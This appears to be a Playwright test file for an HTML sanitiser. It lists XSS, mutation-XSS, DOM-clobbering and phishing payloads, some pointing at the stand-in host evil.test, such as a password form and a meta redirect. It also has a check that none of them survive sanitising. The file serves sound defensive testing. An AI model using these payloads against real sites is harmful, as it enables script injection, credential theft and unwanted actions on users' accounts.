import type { Locator } from '@playwright/test'
import { expect } from './test.ts'

/** Attacks that close what they open, so that all fit into one text. */
export const CLOSED = [
  '<script>__pwn=1</script>',
  '<img src=x onerror=__pwn=1>',
  '<img src="javascript:__pwn=1">',
  '<img src="http://evil.test/track.gif">',
  '<img src="data:image/svg+xml,<svg onload=__pwn=1>">',
  '<svg onload=__pwn=1></svg>',
  '<svg><script>__pwn=1</script></svg>',
  '<svg><a xlink:href="javascript:__pwn=1"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__pwn=1></style></mglyph></table></mtext></math>',
  '<a href="javascript:__pwn=1">x</a>',
  '<a href="JaVa&#x09;ScRiPt:__pwn=1">x</a>',
  '<a href="data:text/html,<script>__pwn=1</script>">x</a>',
  '<a href="#/withdrawal?amount=100">x</a>',
  '<a href="\u0001 #/withdrawal?amount=100">x</a>',
  '<a href="https:#/gamePage?dailiD=1">x</a>',
  '<a href="https:?callback=guest#/">x</a>',
  '<p is="venue-frame" href="#/withdrawal?amount=100" src="javascript:__pwn=1">x</p>',
  '<a href="https://example.com/" target="_top" onclick="__pwn=1">out</a>',
  '<iframe src="javascript:__pwn=1"></iframe>',
  '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>',
  '<object data="javascript:__pwn=1"></object>',
  '<embed src="javascript:__pwn=1">',
  '<form action="https://evil.test/"><input name="password"><button>登录</button></form>',
  '<input autofocus onfocus=__pwn=1>',
  '<select autofocus onfocus=__pwn=1></select>',
  '<textarea autofocus onfocus=__pwn=1></textarea>',
  '<video src=x onerror=__pwn=1></video>',
  '<audio src=x onerror=__pwn=1></audio>',
  '<details open ontoggle=__pwn=1>x</details>',
  '<marquee onstart=__pwn=1>x</marquee>',
  '<style>*{background:url(https://evil.test/)}</style>',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<base href="https://evil.test/">',
  '<div style="position:fixed;inset:0;z-index:999">重新登录</div>',
  '<div id="root" name="token" class="topbar">clobber</div>',
  '<img name="getElementById"><form id="attributes"></form>',
  '<template><script>__pwn=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=__pwn=1>"></noscript>',
  '<p onmouseover=__pwn=1>好的文字</p>',
]
/** Attacks that leave a tag open. Each is tested alone, since it would swallow the next one. */
export const OPEN = [
  '<img src=x onerror=__pwn=1 ',
  '<!--><img src=x onerror=__pwn=1>-->',
  '<!-- <p title="--><img src=x onerror=__pwn=1>">',
  '<title><img src=x onerror=__pwn=1>',
  '<svg></p><style><a id="</style><img src=x onerror=__pwn=1>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__pwn=1>',
]

/** An emptied `is` is safest: a removed one is serialised again with its parsed value. */
const FORBIDDEN = [
  'script, style, iframe, object, embed, form, input, button, select, textarea, svg, math, video, audio, link, meta, base',
  'template, [style], [id], [name], [class], [srcset], [is]:not([is=""])',
].join(', ')

/** The box holds no forbidden tag or attribute, only https addresses, and links that open in a new tab. */
export async function expectHarmless(box: Locator): Promise<void> {
  expect(await box.evaluate((root, selector) => root.querySelectorAll(selector).length, FORBIDDEN)).toBe(0)
  const handlers = await box.evaluate((root) =>
    [...root.querySelectorAll('*')].flatMap((node) =>
      node.getAttributeNames().filter((attribute) => attribute.startsWith('on')),
    ),
  )
  expect(handlers).toEqual([])
  const addresses = await box.evaluate((root) =>
    [...root.querySelectorAll('[href], [src]')].map(
      (node) => node.getAttribute('href') ?? node.getAttribute('src'),
    ),
  )
  for (const address of addresses) expect(address).toMatch(/^https:\/\//)
  await expect(box.locator(':not(a)[href], :not(img)[src]')).toHaveCount(0)
  for (const link of await box.locator('a[href]').all()) {
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer')
    await expect(link).toHaveAttribute('target', '_blank')
  }
  expect(await box.evaluate(() => '__pwn' in window)).toBe(false)
}
